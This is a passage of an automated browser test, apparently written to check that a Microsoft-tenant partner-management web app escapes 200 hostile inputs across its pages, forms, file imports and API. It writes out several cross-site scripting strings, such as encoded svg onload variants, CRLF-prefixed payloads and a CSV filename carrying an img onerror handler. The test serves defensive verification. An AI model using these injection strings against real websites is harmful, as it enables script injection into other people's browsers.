  const [root, setup] = await server.ready;
  state.root = new URL(root).origin;
  state.microsoft = new URL(cloud.root).origin;
  const applications = [...sim.output().matchAll(/Tenant ID: (\S+)\nClient ID: (\S+)\nClient secret: (\S+)/g)].map(([, tenant, client, secret]) => ({ tenant, client, secret }));
  const directories = Object.fromEntries([...sim.output().matchAll(/Directory: (\S+) (.+)/g)].map(m => [m[2], m[1]]));
  /** The operator's commands. */
  const operate = (...args) => {
    const done = spawnSync(binary, [...args, ...where], { cwd: folder, encoding: 'utf8' });
    assert.equal(done.status, 0, done.stderr);
    return done.stdout;
  };
  const tell = async (path, form) => {
    const json = typeof form.kind === 'object';
    const answer = await fetch(`${cloud.root}_sim/${path}`, { method: 'POST', body: json ? JSON.stringify(form) : new URLSearchParams(form),
      ...(json ? { headers: { 'content-type': 'application/json' } } : {}) });
    assert.ok(answer.ok, `${path}: ${answer.status}`);
  };
  const calm = () => fetch(`${cloud.root}_sim/faults`, { method: 'DELETE' });
  const end = () => {
    for (const { child } of [server, sim]) { child.removeAllListeners('exit'); child.kill('SIGKILL'); }
    cloud.stop();
    rmSync(folder, { recursive: true, force: true });
  };
  return { cloud, setup, applications, directories, operate, tell, calm, end };
}

async function person(browser, options = {}) {
  const context = await browser.newContext({ reducedMotion: 'reduce', viewport: { width: 1440, height: 900 }, ...options });
  await watch(context);
  return context.newPage();
}

/** Does all of it in several tabs at a time. */
async function share(pages, jobs) {
  const left = [...jobs];
  await Promise.all(pages.map(async page => { while (left.length) await left.shift()(page); }));
}

/** Microsoft's page: an account of a directory, then a button; straight through where it knows the person. */
async function atMicrosoft(page, account, button) {
  await page.waitForLoadState();
  if (new URL(page.url()).origin === state.microsoft) {
    await page.locator(`input[name=account][value="${account}"]`).check();
    await page.getByRole('button', { name: button }).click();
  }
  await page.waitForURL(url => url.origin === state.root);
}

// ------------------------------------------------------------------------------------ the test itself

/** Each payload, unescaped, is noticed. */
async function noticed(browser) {
  const page = await person(browser);
  const tabs = [page, await page.context().newPage()];
  for (const tab of tabs) abroad.add(tab);
  const policy = (await fetch(`${state.root}/setup`)).headers.get('content-security-policy');
  const missed = [];
  const kinds = { ran: 0, dialog: 0, request: 0, element: 0 };
  const signs = [['ran', / ran$/m], ['dialog', /^raw \d+: dialog/], ['request', /^raw \d+: request/], ['element', /^raw \d+: (element|attribute)/]];
  await share(tabs, [...PAYLOADS.keys()].map(n => async tab => {
    labels.set(tab, `raw ${n}`);
    let all = [];
    // What leads elsewhere may still be under way when the next begins: then once more.
    for (let tries = 0; tries < 2 && !all.length; tries += 1) {
      await tab.goto(`${state.microsoft}/_raw/${n}`, { waitUntil: 'domcontentloaded', timeout: 5000 }).catch(() => {});
      await look(tab).catch(() => {});
      // The page's own script and comment hold it too, which says nothing.
      all = findings.filter(what => what.startsWith(`raw ${n}:`) && !/^raw \d+: (script|comment|console|error)/.test(what));
    }
    if (!all.length) missed.push(PAYLOADS[n]);
    for (const [kind, sign] of signs) kinds[kind] += all.some(what => sign.test(what));
  }));
  labels.set(page, 'raw with policy');
  await page.goto(`${state.microsoft}/_raw/0/${encodeURIComponent(policy)}`);
  await look(page);
  const breaches = findings.filter(what => what.startsWith('raw with policy: policy violation')).length;
  await page.context().close();
  findings.length = 0;
  assert.deepEqual(missed, [], 'unescaped, these are not noticed');
  assert.ok(kinds.ran >= 80 && kinds.dialog >= 2 && kinds.request >= 10 && kinds.element >= 190 && breaches > 0, JSON.stringify({ ...kinds, breaches }));
  Object.assign(state, { pages: 0, shown: new Map(), kinds: new Set(), links: new Map(), routes: new Map() });
  console.log(`noticed when unescaped: 200 of 200 (${kinds.ran} ran, ${kinds.dialog} dialogs, ${kinds.request} asked elsewhere), and ${breaches} policy violations`);
}

const OWNER = address(7);
const AUDITOR = address(8);

/** Setup, credentials, consents, links, mappings, members, providers: each with hostile texts. */
async function build(browser, page, world) {
  const { cloud, setup, applications: [main, own, delegated], directories, tell, operate } = world;
  const [fabrikam, contoso, bold, northwind] = ['Fabrikam Freight Ltd', 'Contoso Bakery', 'Bold <b>Brothers</b> "& Co"', 'Northwind Dental Group'].map(name => directories[name]);
  cloud.refuses = contoso;
  cloud.domains = bold;
  for (let i = 0; i < 8; i += 1) await visit(page, `/setup?${query({ token: text('setup.token'), partner: text('setup.partner'), email: text('setup.email') })}`);
  await submit(page, '/setup', { '*': text('setup') });
  await page.goto(setup);
  await submit(page, '/setup', { partner: text('partner.name', 110), email: OWNER, password: PASSWORD });
  assert.equal(new URL(page.url()).pathname, '/');
  await visit(page, '/settings/organisation');
  await submit(page, '/settings/organisation', { name: text('partner.name', 110), contact: `${PAYLOADS[60]} ⟦partner.contact⟧` });

  // The main credential, its consents and links.
  abroad.add(page);
  await visit(page, `${ENTRA}/credentials/new`, { stir: false });
  const fill = async ({ tenant, client, secret }, name) => {
    await page.locator('#cloud').selectOption({ label: 'Simulated Microsoft cloud' });
    await page.locator('#name').fill(name);
    await page.locator('#directory_id').fill(tenant);
    await page.locator('#client_id').fill(client);
    if (secret) await page.locator('#client_secret').fill(secret);
    await page.getByRole('button', { name: 'Save and continue' }).click();
  };
  await fill(main, text('credential.name', 90));
  await page.getByRole('heading', { level: 1, name: 'Permissions requested' }).waitFor();
  await atMicrosoft(page, `${main.tenant}/admin`, 'Accept');
  await page.getByRole('heading', { level: 1, name: 'Consent granted' }).waitFor();
  await look(page, { stir: false });
  await page.getByRole('link', { name: 'Open credential' }).click();
  await page.locator('#pin').waitFor();
  const credential = new URL(page.url()).pathname;
  for (const [directory, role] of [[fabrikam, 'admin'], [contoso, 'admin'], [bold, 'admin'], [directories['Vigilant Vault Bank'], 'admin'], [directories['Thrift Stores Holding'], 'user']]) {
    await visit(page, credential, { stir: false });
    await page.locator('#pin').fill(directory);
    await page.getByRole('button', { name: 'Connect a tenant' }).click();
    await page.getByRole('heading', { level: 1, name: 'Permissions requested' }).waitFor();
    await atMicrosoft(page, `${directory}/${role}`, 'Accept');
    await look(page);
  }
  const links = [];
  for (let i = 0; i < 3; i += 1) {
    await visit(page, credential, { stir: false });
    await submit(page, `${credential}/links`, { company_name: text('link.company', 200), note: text('link.note', 400) });
    links.push(new URL((await page.locator('code', { hasText: '/consent/links/' }).first().textContent()).trim()).pathname);
  }
  await visit(page, credential, { stir: false });
  await page.getByRole('button', { name: /^Withdraw the link/ }).first().click();
  await page.waitForLoadState();
  const stranger = await person(browser);
  abroad.add(stranger);
  const usable = [];
  for (const link of links) {
    await visit(stranger, link, { stir: false });
    if (await stranger.getByRole('button', { name: 'Continue to Microsoft' }).count()) usable.push(link);
  }
  assert.equal(usable.length, 2);
  const [used, open] = usable;
  for (const answer of ['Cancel', 'Accept']) {
    await visit(stranger, used, { stir: false });
    await stranger.getByRole('button', { name: 'Continue to Microsoft' }).click();
    await atMicrosoft(stranger, `${northwind}/admin`, answer);
    labels.set(stranger, `${used}, ${answer}`);
    await look(stranger);
  }
  await stranger.getByRole('heading', { level: 1, name: 'Consent granted' }).waitFor();
  await visit(stranger, used);
  abroad.delete(stranger);

  // Companies from a file with a hostile name, and the mappings.
  await visit(page, '/companies/import', { stir: false });
  const quoted = value => `"${value.replaceAll('"', '""')}"`;
  const lines = PAYLOADS.map((payload, n) => [`${payload} ⟦company.name⟧`, n === 3 ? 'northwinddental.example' : '', payload.length < 100 ? payload : '']).filter(([name]) => name.length <= 200);
  await page.locator('#file').setInputFiles({ name: '"><img src=x onerror=__ran(3) data-hole=3>.csv', mimeType: 'text/csv',
    buffer: Buffer.from(`name,domain,external id\n${lines.map(line => line.map(quoted).join(',')).join('\n')}\n,nothing.example,${quoted(PAYLOADS[9])}\n`) });
  await page.getByRole('button', { name: 'Check' }).click();
  await page.getByRole('heading', { name: 'What would happen' }).waitFor();
  labels.set(page, 'the file with companies, checked');
  await look(page, { stir: false });
  await page.getByRole('button', { name: 'Import' }).click();
  await page.getByText('were imported or changed').waitFor();
  await visit(page, `${ENTRA}/mappings/import`, { stir: false });
  for (const directory of [fabrikam, contoso, bold]) await page.locator('tr', { hasText: directory }).locator('input[name=tenant]').check();
  await page.getByRole('button', { name: 'Next' }).click();
  await page.getByRole('heading', { level: 1, name: 'Review import' }).waitFor();
  labels.set(page, 'the review of an import');
  await look(page, { stir: false });
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByText('3 mappings were saved').waitFor();

  // An application of its own directory, with a certificate; and a person's authorisation.
  await visit(page, `${ENTRA}/credentials/new?kind=single_tenant`, { stir: false });
  for (const box of await page.locator('input[name=feature]').all()) await box.check();
  await page.getByLabel('Certificate made here').check();
  await fill({ ...own, secret: '' }, text('credential.name', 90));
  await page.getByText('Upload the certificate first').waitFor();
  const single = new URL(page.url()).pathname;
  const certificate = await page.getByRole('link', { name: 'Download certificate' }).getAttribute('href');
  await tell('certificates', { client_id: own.client, certificate: await (await page.context().request.get(state.root + certificate)).text() });
  await tell('grants', { client_id: own.client });
  await tell('faults', { path: '/v1.0/', kind: { slow: { ms: 150 } }, times: 100000 });
  await page.getByRole('button', { name: 'Test connection' }).click();
  await page.waitForURL(url => url.hash === '#test');
  await page.evaluate(() => { document.querySelector('#test-lines').replaceChildren(); });
  // What is there now came as a fragment of the live stream.
  await page.locator('#test-lines', { hasText: '⟦applications.displayName⟧' }).waitFor({ timeout: 20000 });
  labels.set(page, `${single}, live test`);
  await look(page, { stir: false });
  await world.calm();
  await page.getByText(/^(Passed|Works, with gaps|Failed)$/).first().waitFor({ timeout: 30000 });
  for (const how of ['GDAP customers', 'Reseller contracts']) {
    await visit(page, single, { stir: false });
    await page.getByRole('button', { name: how }).click();
    await page.getByText(/tenants? found/).waitFor();
    await look(page);
  }
  cloud.rejects = own.client;
  await visit(page, single, { stir: false });
  await page.getByRole('button', { name: 'Test connection' }).click();
  await page.getByText('⟦token.error⟧').first().waitFor({ timeout: 20000 });
  await visit(page, single);
  cloud.rejects = undefined;
  await visit(page, `${ENTRA}/credentials/new?kind=delegated`, { stir: false });
  await fill(delegated, text('credential.name', 90));
  await page.getByRole('button', { name: 'Authorise' }).click();
  await page.waitForURL(url => url.origin === state.microsoft);
  await atMicrosoft(page, `${delegated.tenant}/admin`, 'Sign in');
  await look(page);

  // A provider, and an account of it that is linked.
  await visit(page, '/settings/sign-in/new', { stir: false });
  await page.locator('#cloud').selectOption({ label: 'Simulated Microsoft cloud' });
  await page.locator('input[name=is_listed]').check();
  await submit(page, '/settings/sign-in', { name: text('provider.name', 60), directory_id: main.tenant, client_id: main.client, client_secret: main.secret });
  await visit(page, '/settings/sign-in');
  const provider = (await page.locator('code', { hasText: '/sign-in/callback/' }).first().textContent()).trim().split('/').at(-1);
  // The page that leads on stays as long as nothing comes of it.
  cloud.silent = true;
  await visit(page, '/account', { stir: false });
  await page.getByRole('button', { name: 'Link an account' }).click({ noWaitAfter: true });
  await page.getByRole('link', { name: 'Continue' }).waitFor();
  labels.set(page, 'on to the provider');
  await look(page, { stir: false, elsewhere: state.microsoft });
  cloud.silent = false;
  await page.getByRole('link', { name: 'Continue' }).click();
  await page.waitForURL(url => url.pathname !== `/account/providers/${provider}/link`);
  await atMicrosoft(page, `${main.tenant}/admin`, 'Sign in');
  await page.getByText('⟦id_token.preferred_username⟧').first().waitFor();

  // Another organisation of the owner's, invitations, a token.
  const [, joins] = operate('partner', 'add', `${PAYLOADS[5]} ⟦partner.other⟧`, '--owner', OWNER).match(/(\/invitations\/\S+)/);
  const second = await person(browser);
  await visit(second, joins, { stir: false });
  await submit(second, joins, { password: PASSWORD });
  assert.equal(new URL(second.url()).pathname, '/');
  await second.context().close();
  const invitations = [];
  for (const email of [AUDITOR, address(9), address(10)]) {
    await visit(page, '/settings/members/new', { stir: false });
    await page.locator('input[name=role][value=auditor]').check();
    await submit(page, '/settings/members', { email });
    invitations.push(new URL(await page.locator('#link').textContent()).pathname);
  }
  await visit(page, '/account', { stir: false });
  await submit(page, '/account/tokens', { token_name: text('token.name', 60) });
  const token = await page.locator('#token').textContent();
  abroad.delete(page);
  return { credential, open, provider, invitations, token, stranger, fabrikam, contoso, bold };
}

const query = pairs => new URLSearchParams(pairs).toString();

/** Waits until no job of the kinds that people wait for is open. */
async function settled(page) {
  for (let i = 0; i < 240; i += 1) {
    let open = 0;
    for (const kind of ['directory', 'secure_score']) for (const at of ['queued', 'running']) {
      await page.goto(`${state.root}/jobs?state=${at}&kind=${kind}`);
      open += await page.getByText('No job here').count() ? 0 : 1;
    }
    if (!open) return;
    await page.waitForTimeout(200);
  }
  throw new Error('jobs did not end');
}

/** The ids of companies by their directories, from the page of mappings. */
async function companies(page, found) {
  await visit(page, `${ENTRA}/mappings?credential=${found.credential.split('/').at(-1)}`, { stir: false });
  const of = async directory => (await page.locator('tr', { has: page.locator(`[title="${directory}"]`) }).locator('a[href^="/companies/"]').first().getAttribute('href'));
  return { F: await of(found.fabrikam), C: await of(found.contoso), B: await of(found.bold) };
}

/** A second sync, everything renamed, each page slow: lists and jobs that change by themselves. */
async function live(page, world, found, at) {
  world.cloud.generation += 1;
  await world.tell('changes', { directory: found.fabrikam, every: '1' });
  await world.tell('faults', { path: '/v1.0/users', kind: { slow: { ms: 8000 } }, times: 100000 });
  await visit(page, `/companies?${query({ q: '⟦organization.displayName⟧' })}`, { stir: false });
  for (const box of await page.locator('tbody input[name=company]').all()) await box.check();
  await page.getByRole('button', { name: 'Sync those that are ticked' }).click();
  await page.getByText('What was done for each company').waitFor();
  labels.set(page, '/jobs, many at once');
  await look(page);
  await visit(page, `/jobs?state=running&kind=directory&company=${at.C.split('/').at(-1)}`, { stir: false });
  await page.locator('a.job-title').first().click();
  await page.locator('#live').waitFor();
  const job = new URL(page.url()).pathname;
  await page.evaluate(() => { document.querySelector('#live').replaceChildren(); });
  await page.locator('#live', { hasText: '⟦graph.error.code⟧' }).waitFor({ timeout: 20000 });
  labels.set(page, `${job}, live`);
  await look(page, { stir: false });
  await visit(page, '/jobs', { stir: false });
  await page.evaluate(() => { document.querySelector('#list').replaceChildren(); });
  await page.locator('#list', { hasText: '⟦organization.displayName⟧' }).waitFor({ timeout: 15000 });
  labels.set(page, '/jobs, renewed by itself');
  await look(page, { stir: false });
  await world.calm();
  await settled(page);
}

// ---------------------------------------------------------------------------------------- all pages

const SECTIONS = [...source('section.rs').matchAll(/word: "([a-z-]+)"/g)].map(m => m[1]);
const isFile = path => /\.(csv|ndjson|cer)$/.test(path);
const isStream = path => path.endsWith('/events');
/** Routes that another browser looks at, or that lead to Microsoft. */
const ELSEWHERE = /^\/(api|static|healthz|setup|sign-in|invitations|consent\/|prove\/provider)/;

async function everything(tabs, at) {
  const [page] = tabs;
  const done = new Set();
  const one = path => async tab => {
    if (done.has(path)) return;
    done.add(path);
    if (isFile(path.split('?')[0])) await file(tab, path);
    else await visit(tab, path);
  };
  const parts = ['', '/edit', '/users', '/groups', '/secure-score', '/secure-score?status=all', '/users.csv', ...SECTIONS.map(word => `/directory/${word}`)];
  await share(tabs, [
    ...ROUTES.filter(route => route.method === 'get' && !route.gaps && !ELSEWHERE.test(route.path)).map(route => one(route.path)),
    ...[at.F, at.C, at.B].flatMap(company => parts.map(part => one(company + part))),
  ]);
  const names = new Set();
  for (let n = 1; n <= 5; n += 1) {
    await one(`${at.F}/users?page=${n}`)(page);
    for (const found of await page.locator('tbody .c-main a').allTextContents()) NEEDLES.forEach((needle, i) => { if (bare(found).includes(needle)) names.add(i); });
  }
  assert.equal(names.size, 200, 'all of them are names of users');
  // What is linked from there: so many of each kind.
  const counts = new Map();
  const most = route => ({ '/companies/{id}/users/{object}': 15, '/companies/{id}/secure-score/{control}': 15, '/jobs/{id}': 8 }[route.path] ?? 3);
  for (let found = true; found;) {
    const round = [];
    for (const [path, queries] of state.links) {
      const route = routeOf('get', path);
      if (!route || ELSEWHERE.test(route.path)) continue;
      const word = path.match(/\/directory\/([^/]+)/)?.[1] ?? '';
      for (const href of [path, ...queries]) {
        const key = `${route.path} ${word} ${href === path ? '' : '?'}`;
        const count = counts.get(key) ?? 0;
        if (done.has(href) || count >= (word ? 2 - (href !== path) : most(route))) continue;
        counts.set(key, count + 1);
        round.push(one(href));
      }
    }
    await share(tabs, round);
    found = round.length > 0;
  }
}

/** Exports: text, to be kept and not shown. */
async function file(page, path) {
  const answer = await page.context().request.get(state.root + path);
  const { 'content-type': kind, 'content-disposition': how, 'x-content-type-options': sniff } = answer.headers();
  note('get', path.split('?')[0], answer.status());
  labels.set(page, path);
  if (answer.status() !== 200 || !/^(text\/csv|application\/x-ndjson|application\/x-x509-ca-cert)/.test(kind) || !/^attachment; filename="[\w.-]+"$/.test(how) || sniff !== 'nosniff') {
    find(page, `a file as ${answer.status()} ${kind}, ${how}, ${sniff}`);
  }
}

/** Names of what a page's handler reads from its address, as its source has them: texts, and others. */
function parameters(route) {
  let text_ = '';
  try { text_ = source(`pages/${route.file}.rs`); } catch { /* not a page */ }
  const all = { texts: new Set(['q', 'next', 'error', 'error_description', 'state', 'code', 'scope', 'done']), others: new Set() };
  for (const [, body] of text_.matchAll(/struct (?:\w*Query|Goal|Return)\b[^{]*\{([^}]*)\}/g)) {
    for (const [, name, kind] of body.matchAll(/(\w+): ([\w:<>]+),/g)) (/^(Option<)?String>?$/.test(kind) ? all.texts : all.others).add(name);
  }
  for (const name of all.others) all.texts.delete(name);
  return all;
}

/** Every page with hostile parameters, then with hostile gaps in its path. */
async function addresses(tabs, at, extra) {
  const paths = [];
  for (const route of ROUTES) {
    if (route.method !== 'get' || ELSEWHERE.test(route.path) || isFile(route.path) || isStream(route.path)) continue;
    const real = [...state.links.keys(), ...extra].filter(path => routeOf('get', path) === route);
    const path = route.gaps ? real.find(one => one.startsWith(at.F)) ?? real[0] : route.path;
    if (!path) continue;
    const { texts, others } = parameters(route);
    const hostile = names => [...names].map(name => [name, text(`query.${name}`)]);
    paths.push(`${path}?${query(hostile(texts))}`);
    if (others.size) paths.push(`${path}?${query(hostile([...texts, ...others]))}`);
  }
  for (const word of SECTIONS) paths.push(`${at.F}/directory/${word}?${query({ q: text('query.q'), sort: text('query.sort'), desc: text('query.desc') })}`);
  for (const route of ROUTES) {
    if (route.method !== 'get' || !route.gaps || /^\/api/.test(route.path)) continue;
    const gaps = [...route.path.matchAll(/\{[^}]+\}/g)].map(m => m[0]);
    const real = [...state.links.keys()].find(path => routeOf('get', path) === route);
    for (const gap of gaps) {
      // With the other gaps as they are, so that it is reached.
      const parts = (real ?? route.path.replace(/\{[^}]+\}/g, 'x')).split('/');
      parts[route.path.split('/').indexOf(gap)] = encodeURIComponent(text(`path.${route.path}`, 1500));
      paths.push(parts.join('/'));
    }
  }
  for (const raw_ of ['%C0%BCscript%C0%BE__ran(0)%C0%BC/script%C0%BE', '%3Csvg%00onload=__ran(0)%3E', '%FF%FE<svg/onload=__ran(0)>', '"><svg/onload=__ran(0)>', '%u003csvg/onload=__ran(0)%u003e', '%253Csvg onload=__ran(0)%253E', '%0d%0a%0d%0a<svg/onload=__ran(0)>']) {
    paths.push(`/companies?q=${raw_}`);
    paths.push(`/${raw_}`);
  }
  paths.push(`/companies?q=x#${encodeURIComponent(PAYLOADS[0])}`);
  await share(tabs, paths.map(path => tab => visit(tab, path)));
}

/** All 200 in a search, and all 200 in a form that comes back with an error. */
async function all([one, other]) {
  const shown = { query: new Set(), form: new Set() };
  await visit(other, '/companies/new');
  await Promise.all([
    (async () => {
      for (const [n, payload] of PAYLOADS.entries()) if ((await visit(one, `/companies?${query({ q: payload })}`)).shown.includes(n)) shown.query.add(n);
    })(),
    (async () => {
      for (const [n, payload] of PAYLOADS.entries()) if ((await submit(other, '/companies', { name: payload, domain: `${payload}/`, external_id: payload })).shown.includes(n)) shown.form.add(n);
    })(),
  ]);
  assert.deepEqual([shown.query.size, shown.form.size], [200, 200], 'all of them come back as text');
}

/** Forms that come back with what was typed. */
async function forms(page, at, found) {
  const { credential } = found;
  const remap = [...state.links.keys()].find(path => path.endsWith('/remap'));
  const member = [...state.links.keys()].find(path => /^\/settings\/members\/[^/]{30,}$/.test(path));
  const long = 'x'.repeat(400);
  const [, id] = credential.match(/([^/]+)$/);
  // Mail is switched on late: its permission was not asked for.
  await visit(page, `${credential}/edit`, { stir: false });
  await page.locator('input[name=feature][value=mail]').check();
  await page.getByRole('button', { name: 'Save' }).click();
  await page.locator('#mail_from').waitFor();
  await look(page, { stir: false });
  for (const [path, action, field = '*', button] of [
    ['/companies/import'], [`${at.F}/edit`, at.F], ['/settings/organisation'], ['/settings/members/new', '/settings/members'], [member],
    ['/settings/sign-in/new', '/settings/sign-in'], ['/account', '/account/tokens'], ['/account', '/account/password'], ['/account/authenticator-app'],
    [`${ENTRA}/credentials/new`, `${ENTRA}/credentials`], [`${credential}/edit`, credential], [`${credential}/secrets/new`, `${credential}/secrets`],
    [credential, `${credential}/consent`], [credential, `${credential}/links`], [credential, `${credential}/discoveries`, 'domains'], [credential, `${credential}/mail`],
    [`${ENTRA}/mappings/match?credential=${id}`, `${ENTRA}/mappings/match`, '*', ['action', 'add']], [remap], ['/prove?next=/', '/prove'],
  ]) {
    for (const every of [false, true]) {
      await visit(page, path, { stir: false });
      await submit(page, action ?? path.split('?')[0], { [field]: `${text('form')}${every ? '' : long}` }, { every, button });
    }
  }
  // Pairs that are suggested and taken, names that clash.
  await visit(page, `${ENTRA}/mappings/match?credential=${id}`, { stir: false });
  await page.getByRole('button', { name: /^Take the suggestion/ }).first().click();
  await page.getByText('1 chosen').waitFor();
  labels.set(page, `${ENTRA}/mappings/match, a pair taken`);
  await look(page);
  await visit(page, `${ENTRA}/mappings/import?credential=${id}`, { stir: false });
  await page.locator('input[name=tenant]').first().check();
  await page.getByRole('button', { name: 'Next' }).click();
  await page.getByRole('heading', { level: 1, name: 'Review import' }).waitFor();
  const name = await page.locator('input[name^="name."]').getAttribute('name');
  await submit(page, `${ENTRA}/mappings/import`, { [name]: `${PAYLOADS[0]} ⟦company.name⟧`, [name.replace('name', 'choice')]: text('form.choice') }, { every: true });
  await page.getByText('Nothing was saved').waitFor();
  await page.getByText('Map to existing').first().waitFor({ state: 'attached' });
}

/** Who was invited, with a passkey and a browser of a hostile name; who comes by the provider; strangers. */
async function others(browser, found) {
  const { stranger, invitations, provider, open } = found;
  const page = await person(browser, { userAgent: PAYLOADS[7].trim() });
  await visit(page, invitations[0], { stir: false });
  await submit(page, invitations[0], { password: 'short' });
  await submit(page, invitations[0], { password: PASSWORD });
  assert.equal(new URL(page.url()).pathname, '/');
  const client = await page.context().newCDPSession(page);
  await client.send('WebAuthn.enable');
  await client.send('WebAuthn.addVirtualAuthenticator', { options: { protocol: 'ctap2', transport: 'internal', hasResidentKey: true, hasUserVerification: true, isUserVerified: true, automaticPresenceSimulation: true } });
  await visit(page, '/account/passkeys/new', { stir: false });
  await page.getByLabel('Name').fill(text('passkey.name', 60));
  await page.getByRole('button', { name: 'Add a passkey' }).click();
  await page.getByRole('heading', { level: 1, name: 'Recovery codes' }).waitFor();
  await look(page, { stir: false });
  for (const path of ['/account', '/account/passkeys/new', `/prove?${query({ next: text('query.next') })}`, '/settings/audit', '/settings/members', '/settings/members/new', '/companies/new']) await visit(page, path);
  await visit(page, '/account', { stir: false });
  await page.evaluate(() => HTMLFormElement.prototype.submit.call(document.querySelector('form[action="/sign-out"]')));
  await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
  await submit(page, '/sign-in', { email: AUDITOR, password: PASSWORD });
  await page.getByRole('heading', { level: 1, name: 'Second factor' }).waitFor();
  await visit(page, '/sign-in/second-factor');
  await submit(page, '/sign-in/second-factor', { recovery_code: text('form.recovery_code') });

  // Nobody, then who comes by the provider.
  const { texts } = parameters({ file: 'sign_in' });
  for (const path of ['/setup', '/sign-in', '/sign-in/passkey', '/sign-in/second-factor', invitations[1], '/invitations/x', open, '/consent/links/x', '/consent/callback', `/sign-in/callback/${provider}`,
    '/static/js/app.js', '/static/icons.svg', '/static/x', '/healthz', '/api/v1/openapi.json', '/api/v1/companies', '/companies', '/no-such-page']) {
    await visit(stranger, path, { stir: path !== '/static/icons.svg' });
    await visit(stranger, `${path}?${query([...texts, 'token', 'partner', 'email', 'tenant'].map(name => [name, text(`query.${name}`)]))}`);
    await visit(stranger, `${path}?${query(['state', 'state', 'next', 'next'].map(name => [name, text(`query.${name}`)]))}`);
  }
  for (let i = 0; i < 3; i += 1) {
    await visit(stranger, '/sign-in', { stir: false });
    await submit(stranger, '/sign-in', { '*': text('form.sign-in') }, { every: i > 1 });
  }
  await visit(stranger, invitations[1], { stir: false });
  await submit(stranger, invitations[1], { password: text('form.password') });
  abroad.add(stranger);
  for (const path of [`${invitations[1]}/providers/${provider}`, `/sign-in/providers/${provider}?${query({ next: text('query.next') })}`]) {
    await stranger.goto(state.root + path);
  }
  await visit(stranger, '/sign-in', { stir: false });
  await stranger.locator(`a[href^="/sign-in/providers/${provider}"]`).click();
  await atMicrosoft(stranger, `${found.main.tenant}/admin`, 'Sign in');
  assert.equal(new URL(stranger.url()).pathname, '/');
  for (const path of ['/', '/account', '/prove?next=/account']) await visit(stranger, path);
  await stranger.goto(`${state.root}/prove/provider?next=/account`);
  await atMicrosoft(stranger, `${found.main.tenant}/admin`, 'Sign in');
}

/** The API as a browser shows it that opens its addresses: JSON, and never a page. */
async function api(browser, found) {
  const page = await person(browser, { extraHTTPHeaders: { authorization: `Bearer ${found.token}` } });
  const known = [...state.links.keys()];
  const ids = pattern => [...new Set(known.flatMap(path => path.match(pattern)?.[1] ?? []))];
  const gaps = {
    companies: () => [found.at.F, found.at.C].map(path => path.split('/')[2]),
    credentials: () => ids(/\/credentials\/([0-9a-f-]{36})/), tenants: () => ids(/\/tenants\/([0-9a-f-]{36})/), mappings: () => ids(/\/mappings\/([0-9a-f-]{36})/),
    runs: () => ids(/^\/jobs\/([0-9a-f-]{36})/), 'consent-requests': () => ids(/^\/consents\/([0-9a-f-]{36})/),
    groups: at => ids(new RegExp(`^/companies/${at.match(/companies\/([^/]+)/)[1]}/groups/([^/]+)$`)),
    directory: () => SECTIONS,
    section: at => ids(new RegExp(`^/companies/${at.match(/companies\/([^/]+)/)[1]}/directory/${at.split('/').at(-1)}/([^/]+)$`)),
  };
  for (const route of ROUTES.filter(one => one.method === 'get' && one.path.startsWith('/api/'))) {
    let paths = [''];
    const parts = route.path.split('/').slice(1);
    for (const [i, part] of parts.entries()) {
      if (!part.startsWith('{')) { paths = paths.map(path => `${path}/${part}`); continue; }
      const fill = gaps[parts[i - 1].replace(/[{}]/g, '')];
      assert.ok(fill, `no way to fill ${route.path}`);
      paths = paths.flatMap(path => fill(path).slice(0, part === '{section}' ? 50 : 2).map(id => `${path}/${id}`));
    }
    if (paths.length > 1 && !route.path.includes('{section}')) paths = paths.slice(0, 3);
    for (const path of paths) {
      const { shown } = await visit(page, path);
      if (!await page.evaluate(() => /^application\/(problem\+)?json$/.test(document.contentType))) find(page, 'not JSON');
      if (route.path === '/api/v1/companies' && !shown.length) find(page, 'shows none');
    }
    await visit(page, `${paths[0]}?${query(['q', 'limit', 'cursor', 'page', 'state', 'sort'].map(name => [name, text(`query.${name}`)]))}`);
    if (route.gaps) await visit(page, route.path.replace(/\{[^}]+\}/g, () => encodeURIComponent(text('path.api', 1500))));
  }
}

// --------------------------------------------------------------------------------------------- run

const began = Date.now();
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync',
    '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost'],
});
let world;
let page;
let failure;
let step = 'start';
const took = async (name, what) => {
  step = name;
  const from = Date.now();
  const answer = await what;
  console.log(`${name}: ${((Date.now() - from) / 1000).toFixed(1)} s, ${state.pages} pages`);
  return answer;
};
try {
  world = await install();
  await took('self-check', noticed(browser));
  page = await person(browser);
  const found = await took('build', build(browser, page, world));
  found.main = world.applications[0];
  await took('first sync', settled(page));
  found.at = await companies(page, found);
  await took('live', live(page, world, found, found.at));
  const tabs = [page, await page.context().newPage()];
  // What is not painted takes no time.
  for (const tab of tabs) await tab.setViewportSize({ width: 900, height: 200 });
  await took('everything', everything(tabs, found.at));
  await took('addresses', addresses(tabs, found.at, [found.credential]));
  await took('all of them', all(tabs));
  await took('forms, others, API', Promise.all([forms(page, found.at, found), others(browser, found), api(browser, found)]));
  for (const route of ROUTES.filter(one => one.method === 'get')) {
    const statuses = [...state.routes.get(`get ${route.path}`) ?? []];
    assert.ok(statuses.some(status => status < 400), `no way to fill ${route.path}: ${statuses}`);
  }
  const shown = new Set([...state.shown.values()].flatMap(one => [...one]));
  assert.equal(shown.size, 200, 'each of them is shown somewhere');
  console.log('not shown', [...world.cloud.kinds].filter(kind => !state.kinds.has(kind)).join(' '));
  console.log('shown', [...state.kinds].join(' '));
} catch (error) {
  failure = error;
  await page?.screenshot({ path: join(shots, 'failed-payloads.png'), fullPage: true }).catch(() => {});
} finally {
  await browser.close();
  world?.end();
}
if (failure) console.error(`failed in ${step} at ${labels.get(page) ?? page?.url()}:`, failure);
if (findings.length) console.error(`${findings.length} findings:\n${[...new Set(findings)].slice(0, 60).join('\n')}`);
if (failure || findings.length) process.exitCode = 1;
else {
  const times = [...state.shown.values()].reduce((sum, one) => sum + one.size, 0);
  console.log(`B23: 200 payloads, ${state.pages} pages, ${times} shown as text: no script ran, no dialog, no policy violation, no element made of one (${Math.round((Date.now() - began) / 1000)} s)`);
}
